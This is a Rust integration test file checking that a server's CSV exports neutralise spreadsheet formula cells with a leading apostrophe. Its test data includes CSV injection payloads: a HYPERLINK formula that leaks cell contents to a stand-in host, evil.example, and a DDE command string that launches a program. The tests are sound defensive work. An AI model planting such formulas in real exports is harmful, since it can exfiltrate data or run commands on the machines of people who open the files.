//! CSV formula injection (issue 16.13): text cells that come from the
//! pipeline's data and start with `=`, `+`, `-`, `@`, tab or carriage return
//! (or their full-width forms) are written with a leading `'` so a
//! spreadsheet shows them as text instead of evaluating them — in the
//! synchronous exports and in export job files alike. Numbers the server
//! computes (ids, counts, a negative `duration_ms`) stay numbers.
//! `--csv-raw-formulas` turns the guard off.

mod common;

use std::time::Duration;

use common::*;
use reqwest::Method;
use serde_json::json;

/// Cells that a spreadsheet would evaluate, each as stored.
const FORMULAS: [&str; 8] = [
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
    "+1+2",
    "-2+3",
    "@SUM(A1:A2)",
    "\tcmd",
    "\rcmd",
    "＝1+1",
    "=cmd|' /C calc'!A0",
];

struct Seeded {
    /// Source whose name is a formula.
    src_name: &'static str,
    run_ids: Vec<i64>,
}

async fn seed(db: &TestDb) -> Seeded {
    let src_name = "=1+2";
    let src = db.source(src_name).await;
    let p = Pipeline::new(db).await;
    let run = p.run(src).await;
    for (i, f) in FORMULAS.iter().enumerate() {
        let r = p
            .record_with(run, src, Some(f), &serde_json::to_string(f).expect("json"))
            .await;
        p.error_with(
            Some(run),
            src,
            Some(r),
            "error",
            "validate",
            f,
            &format!("note {i}: {f}"),
            None,
        )
        .await;
        // The message itself is the formula too (first character matters).
        p.error_with(Some(run), src, Some(r), "warning", "load", "E", f, None)
            .await;
    }
    // A JSON scalar payload that starts with '-' (user data: guarded).
    p.record_with(run, src, Some("plain"), "-7").await;
    // A run that "finished" 5 ms before it started (a pipeline's clock skew):
    // duration_ms is -5, a number the server computes, left as a number.
    let skewed: i64 = db
        .client
        .query_one(
            "insert into ingest.runs (source_id, started_at, finished_at, status)
             values ($1, now(), now() - interval '5 milliseconds', 'succeeded') returning id",
            &[&src],
        )
        .await
        .expect("skewed run")
        .get(0);
    Seeded {
        src_name,
        run_ids: vec![run, skewed],
    }
}

fn parse(body: &str) -> (Vec<String>, Vec<Vec<String>>) {
    let mut r = csv::ReaderBuilder::new()
        .has_headers(true)
        .from_reader(body.as_bytes());
    let h = r
        .headers()
        .expect("header")
        .iter()
        .map(str::to_string)
        .collect();
    let rows = r
        .records()
        .map(|rec| rec.expect("record").iter().map(str::to_string).collect())
        .collect();
    (h, rows)
}

async fn csv_of(server: &TestServer, path: &str) -> (Vec<String>, Vec<Vec<String>>) {
    let (status, ct, body) = server.get_raw(path).await;
    assert_eq!(status, 200, "{path}: {body}");
    assert!(ct.starts_with("text/csv"), "{ct}");
    parse(&body)
}

fn col(header: &[String], name: &str) -> usize {
    header
        .iter()
        .position(|h| h == name)
        .unwrap_or_else(|| panic!("no column {name} in {header:?}"))
}

/// What the guard makes of a stored text.
fn guarded(s: &str) -> String {
    format!("'{s}")
}

/// The errors CSV (sync or job file) holds every formula guarded.
fn check_errors(header: &[String], rows: &[Vec<String>], src_name: &str, guard: bool) {
    let want = |s: &str| if guard { guarded(s) } else { s.to_string() };
    let (code, message, source) = (
        col(header, "code"),
        col(header, "message"),
        col(header, "source"),
    );
    assert_eq!(rows.len(), FORMULAS.len() * 2);
    for f in FORMULAS {
        assert!(
            rows.iter().any(|r| r[code] == want(f)),
            "code {f:?} written as {:?}; rows {rows:?}",
            want(f)
        );
        assert!(
            rows.iter().any(|r| r[message] == want(f)),
            "message {f:?} written as {:?}",
            want(f)
        );
    }
    // A message whose formula character is not first is left alone.
    for (i, f) in FORMULAS.iter().enumerate() {
        let note = format!("note {i}: {f}");
        assert!(
            rows.iter().any(|r| r[message] == note),
            "{note:?} unchanged"
        );
    }
    for r in rows {
        assert_eq!(r[source], want(src_name));
        // Server-made columns are never touched.
        assert!(r[col(header, "id")].parse::<i64>().is_ok());
        assert!(matches!(
            r[col(header, "severity")].as_str(),
            "error" | "warning"
        ));
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn formula_cells_are_neutralised_in_every_export_and_numbers_stay_numbers() {
    let db = TestDb::new().await;
    let s = seed(&db).await;
    let server = TestServer::start(&db).await;

    // Records: external_id, source and payload are user data.
    let (h, rows) = csv_of(&server, "/api/export/records.csv?include_payload=true").await;
    let (ext, payload, source) = (
        col(&h, "external_id"),
        col(&h, "payload"),
        col(&h, "source"),
    );
    for f in FORMULAS {
        let row = rows
            .iter()
            .find(|r| r[ext] == guarded(f))
            .unwrap_or_else(|| panic!("external_id {f:?} not guarded; rows {rows:?}"));
        // A JSON string starts with '"': nothing to guard.
        assert_eq!(row[payload], serde_json::to_string(f).expect("json"));
        assert_eq!(row[source], guarded(s.src_name));
    }
    let scalar = rows
        .iter()
        .find(|r| r[ext] == "plain")
        .expect("the plain record");
    assert_eq!(
        scalar[payload], "'-7",
        "a payload starting with '-' is guarded"
    );

    // Errors: code and message.
    let (h, rows) = csv_of(&server, "/api/export/errors.csv").await;
    check_errors(&h, &rows, s.src_name, true);

    // Runs: the source name is guarded, the negative duration is a number.
    let (h, rows) = csv_of(&server, "/api/export/runs.csv").await;
    assert_eq!(rows.len(), s.run_ids.len());
    let skewed = rows
        .iter()
        .find(|r| r[col(&h, "id")] == s.run_ids[1].to_string())
        .expect("skewed run");
    assert_eq!(skewed[col(&h, "duration_ms")], "-5");
    assert_eq!(skewed[col(&h, "source")], guarded(s.src_name));

    // An export job's file is guarded the same way.
    let (status, job) = server
        .send(
            Method::POST,
            "/api/exports",
            Some(json!({"kind": "errors"})),
        )
        .await;
    assert_eq!(status, 202, "{job}");
    let id = job["id"].as_str().expect("id").to_string();
    wait_for("export job finished", Duration::from_secs(30), || async {
        server.get(&format!("/api/exports/{id}")).await.1["status"] == "finished"
    })
    .await;
    let (h, rows) = csv_of(&server, &format!("/api/exports/{id}/download")).await;
    check_errors(&h, &rows, s.src_name, true);

    server.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn csv_raw_formulas_writes_cells_as_stored() {
    let db = TestDb::new().await;
    let s = seed(&db).await;
    let mut opts = options();
    opts.csv_raw_formulas = true;
    let server = TestServer::start_with(&db, opts).await;

    let (h, rows) = csv_of(&server, "/api/export/errors.csv").await;
    check_errors(&h, &rows, s.src_name, false);
    let (h, rows) = csv_of(&server, "/api/export/records.csv?include_payload=true").await;
    let ext = col(&h, "external_id");
    for f in FORMULAS {
        assert!(rows.iter().any(|r| r[ext] == f), "external_id {f:?} raw");
    }
    assert!(rows.iter().any(|r| r[col(&h, "payload")] == "-7"));

    let (status, job) = server
        .send(
            Method::POST,
            "/api/exports",
            Some(json!({"kind": "errors"})),
        )
        .await;
    assert_eq!(status, 202, "{job}");
    let id = job["id"].as_str().expect("id").to_string();
    wait_for("export job finished", Duration::from_secs(30), || async {
        server.get(&format!("/api/exports/{id}")).await.1["status"] == "finished"
    })
    .await;
    let (h, rows) = csv_of(&server, &format!("/api/exports/{id}/download")).await;
    check_errors(&h, &rows, s.src_name, false);

    server.stop().await;
}
